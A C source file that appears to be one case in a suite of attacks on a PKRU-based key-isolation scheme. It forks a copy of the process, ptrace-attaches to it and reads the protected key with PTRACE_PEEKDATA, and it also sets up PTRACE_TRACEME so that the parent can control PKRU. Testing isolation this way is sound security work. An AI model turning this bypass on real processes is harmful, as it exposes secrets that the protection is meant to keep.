// SPDX-License-Identifier: Apache-2.0 WITH LLVM-exception
//
// A12: a forked child that is traced gives its copy of the key to PTRACE_PEEKDATA, which does not look at
// PKRU.
#include "evil.h"

#include <errno.h>
#include <signal.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <unistd.h>

int evil_ptrace_fork(const struct evil_target *target) {
    unsigned char copy[EVIL_KEY_MAX] = {0};
    pid_t child = fork();
    int status;

    if (child < 0)
        return evil_failed("fork");
    if (child == 0) {
        for (;;)
            pause();
    }
    if (ptrace(PTRACE_ATTACH, child, NULL, NULL) != 0)
        return evil_failed("ptrace");
    waitpid(child, &status, 0);
    for (size_t i = 0; i + sizeof(long) <= sizeof copy && i < target->key_size; i += sizeof(long)) {
        long word;

        errno = 0;
        word = ptrace(PTRACE_PEEKDATA, child, target->key + i, NULL);
        if (errno != 0)
            return evil_failed("PTRACE_PEEKDATA");
        memcpy(copy + i, &word, sizeof word);
    }
    kill(child, SIGKILL);
    return evil_got(target, copy, "PTRACE_PEEKDATA");
}

// The parent, as a debugger that waits for it, would see and set all registers, PKRU included.
int evil_traceme(const struct evil_target *target) {
    (void)target;
    if (ptrace(PTRACE_TRACEME, 0, NULL, NULL) != 0)
        return evil_failed("ptrace PTRACE_TRACEME");
    return evil_succeeded("the parent traces the process");
}
